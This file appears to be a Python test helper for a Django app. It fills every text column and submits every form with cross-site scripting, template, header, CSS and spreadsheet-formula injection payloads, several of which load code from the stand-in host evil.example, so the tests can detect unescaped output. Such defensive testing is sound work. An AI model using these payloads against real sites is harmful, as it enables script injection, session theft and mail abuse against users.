"""Text as an attacker would have it, in every column and every form field that there is; and what is answered then."""

from __future__ import annotations

import contextlib
from collections.abc import Iterator, Mapping
from copy import copy
from dataclasses import dataclass
from html.parser import HTMLParser
from itertools import count
from typing import Any
from urllib.parse import urljoin, urlsplit

from django.apps import apps
from django.db import DatabaseError, models, transaction
from django.http import StreamingHttpResponse
from django.http.response import HttpResponseBase
from django.test import Client, TestCase

from cloudmailin.sealed import SealedField
from tenants.audit import AuditAction, record
from tenants.models import Tenant, User
from tenants.scoping import across_tenants

MARK = "p0wn"
ELSEWHERE = "evil.example"
_JS = f"alert('{MARK}')"
PAYLOADS = (
    f"<script>{_JS}</script>",
    f'"><img src=//{ELSEWHERE}/{MARK} onerror={_JS}>',
    f"'><svg onload={_JS}>",
    f"</textarea></title></style></noscript><script>{_JS}</script>",
    f"</script><script src=//{ELSEWHERE}/{MARK}.js></script>",
    f'" autofocus onfocus="{_JS}" x="',
    f"' onmouseover='{_JS}' x='",
    f"javascript:{_JS}//",
    f"`-{_JS}-`'-{_JS}-'\"-{_JS}-\"",
    f"<iframe src=//{ELSEWHERE}/{MARK}></iframe>",
    f"<iframe srcdoc='<script>{_JS}</script>'>",
    f"<style>@import '//{ELSEWHERE}/{MARK}.css';</style>",
    f"<link rel=stylesheet href=//{ELSEWHERE}/{MARK}.css>",
    f'<base href="//{ELSEWHERE}/{MARK}/">',
    f'<meta http-equiv=refresh content="0;url=//{ELSEWHERE}/{MARK}">',
    f"<object data=//{ELSEWHERE}/{MARK}></object>",
    f"<details open ontoggle={_JS}>",
    f"<math><mtext></form><form><mglyph><style></math><img src onerror={_JS}>",
    f'<div hx-get="//{ELSEWHERE}/{MARK}" hx-trigger="load">',
    f'<div hx-on::load="{_JS}" data-hx-get="//{ELSEWHERE}/{MARK}" data-hx-trigger=load>',
    f'<div x-data x-init="{_JS}" @load="{_JS}">',
    f"&lt;script&gt;{_JS}&lt;/script&gt;%3Cscript%3E{_JS}%3C/script%3E",
    f"--><script>{_JS}</script>]]><script>{_JS}</script>",
    "{{ request.user.password }}{% now 'Y' %}${7*7}#{7*7}" + MARK,
    f"#fff;}}*{{background:url(//{ELSEWHERE}/{MARK}.png)}}",
    f"{MARK}\r\nBcc: victim@{ELSEWHERE}\r\n\r\n<script>{_JS}</script>",
    f"{MARK}\nX-Injected: 1",
    f"{MARK}\u2028b\u2029c\x85d\x0be",
    f"\x1b[31m{MARK}\x1b]0;title\x07",
    f"\u202e{MARK}gpj.exe\u2066",
    f'=HYPERLINK("//{ELSEWHERE}/{MARK}")',
)

_URL = f'https://{ELSEWHERE}/{MARK}"><script>{_JS}</script>'
_ADDRESS = f"{MARK}@example.com"

_DECIDED = frozenset({
    "password", "language", "time_zone", "slug", "colour", "proof_label", "action", "target_kind", "kind",
    "use", "state", "status", "code", "reason", "purpose", "secret_hash", "token", "proof_token",
    "skeleton", "key", "channel", "topic", "role", "verdict", "way", "circuit_reason", "hook_path",
})  # fmt: skip
"""Columns whose few values are the code's own, and what is secret: nobody types them, and no page shows them as text."""

_HOSTS = frozenset({"BrandHost", "Domain"})
"""Their names are host names (test_names.py), and the tests reach the pages by them."""


def poison(tenant: Tenant) -> int:
    """Write the payloads into all columns of text, wherever the database takes them; into how many that was."""
    number, poisoned = count(), 0
    with across_tenants():
        for person in User.objects.filter(memberships__tenant=tenant):
            record(
                AuditAction.TENANT_CHANGED, actor=person, target=tenant, after={"note": text(next(number))}
            )
        for model in _ours():
            for field in model._meta.concrete_fields:
                poisoned += _poison(model, field, next(number))
    return poisoned


def _ours() -> list[type[models.Model]]:
    labels = ("tenants", "cloudmailin", "portal")
    return [
        model
        for label in labels
        for model in apps.get_app_config(label).get_models()
        if not model._meta.proxy
    ]


def _poison(model: type[models.Model], field: models.Field[Any, Any], number: int) -> bool:
    if field.name in _DECIDED or field.choices or (model.__name__ in _HOSTS and field.name == "name"):
        return False
    poisoned = False
    for row in model._base_manager.all():
        value = _value(field, getattr(row, field.attname), number)
        if value is not None:
            with contextlib.suppress(DatabaseError), transaction.atomic():
                model._base_manager.filter(pk=row.pk).update(**{field.name: value})
                poisoned = True
    return poisoned


def _value(field: models.Field[Any, Any], now: Any, number: int) -> Any:
    if isinstance(field, models.JSONField):
        return _leaves(now, number) if now else None
    if isinstance(field, SealedField | models.FileField) or not isinstance(
        field, models.CharField | models.TextField
    ):
        return None
    if isinstance(field, models.EmailField):
        return None
    if isinstance(field, models.URLField):
        return _URL
    return text(number)[: field.max_length]


def _leaves(value: Any, number: int) -> Any:
    if isinstance(value, dict):
        return {name: _leaves(each, number) for name, each in value.items()}
    if isinstance(value, list):
        return [_leaves(each, number) for each in value]
    return text(number) if isinstance(value, str) else value


def text(number: int) -> str:
    """All payloads, each time another of them first: a short column takes that one alone."""
    at = number % len(PAYLOADS)
    return "".join([*PAYLOADS[at:], *PAYLOADS[:at]])


@dataclass(frozen=True, slots=True)
class Answer:
    """`asked` says of whom and what; `url` is where a browser would be."""

    asked: str
    url: str
    status: int
    headers: Mapping[str, str]
    body: bytes

    @property
    def is_page(self) -> bool:
        return self.headers.get("Content-Type", "").startswith("text/html")

    @property
    def is_poisoned(self) -> bool:
        return MARK.encode() in self.body


def ask(client: Client, host: str, path: str) -> Iterator[Answer]:
    """The page at the path, and what becomes of every form in it when payloads are typed. Nothing of it is kept."""
    page = read(client.get(path), f"GET {path}", f"http://{host}{path}")
    yield page
    if page.is_page and page.status == 200:
        for number, form in enumerate(_Forms(page.body).forms):
            yield from _typed(client, host, path, form, number)


def _typed(client: Client, host: str, path: str, form: _Form, number: int) -> Iterator[Answer]:
    to = urlsplit(urljoin(path, form.action)).path
    if to.startswith(("/logout/",)):
        return
    cookies = copy(client.cookies)
    for address in (None, _ADDRESS):  # with one that is good more forms are taken, and mails are sent
        texts = {"email": address}
        given = {
            name: (texts.get(value.kind) or text(number + at)) if isinstance(value, _Typed) else value
            for at, (name, value) in enumerate(form.fields)
        }
        with transaction.atomic(), TestCase.captureOnCommitCallbacks(execute=True):
            asked = client.post if form.method == "post" else client.get
            answer = asked(to, given)
            yield read(answer, f"{form.method} {to} out of {path}", f"http://{host}{to}")
            if answer.status_code in {302, 303} and (there := answer.headers["Location"]).startswith("/"):
                yield read(client.get(there), f"{there} after {to}", f"http://{host}{there}")
            transaction.set_rollback(True)
        client.cookies = copy(cookies)


def read(answer: HttpResponseBase, asked: str, url: str) -> Answer:
    """To the end, where it is streamed."""
    streamed = isinstance(answer, StreamingHttpResponse)
    body = b"".join(answer) if streamed else getattr(answer, "content", b"")
    return Answer(asked, url, answer.status_code, dict(answer.headers), body)


@dataclass(frozen=True, slots=True)
class _Typed:
    """What a person types, in an input of this kind."""

    kind: str


@dataclass(slots=True)
class _Form:
    action: str
    method: str
    fields: list[tuple[str, str | _Typed]]


_TYPED = frozenset({"text", "search", "email", "url", "tel", "password", ""})


class _Forms(HTMLParser):
    def __init__(self, body: bytes) -> None:
        super().__init__()
        self.forms: list[_Form] = []
        self._select = ""
        self.feed(body.decode())

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        given = dict(attrs)
        name = given.get("name") or ""
        if tag == "form":
            self.forms.append(_Form(given.get("action") or "", (given.get("method") or "get").lower(), []))
        elif not self.forms:
            return
        elif tag == "textarea":
            self._add(name, _Typed(tag))
        elif tag == "input" and (kind := given.get("type") or "") in _TYPED:
            self._add(name, _Typed("email" if "email" in name else kind))
        elif tag == "input" and given.get("type") in {"checkbox", "radio"}:
            if "checked" in given:
                self._add(name, given.get("value") or "on")
        elif tag == "input" and given.get("type") not in {"file", "submit"}:
            self._add(name, given.get("value") or "")
        elif tag == "select":
            self._select = name
        elif tag == "option" and self._select and "selected" in given:
            self._add(self._select, given.get("value") or "")

    def _add(self, name: str, value: str | _Typed) -> None:
        if name:
            self.forms[-1].fields.append((name, value))
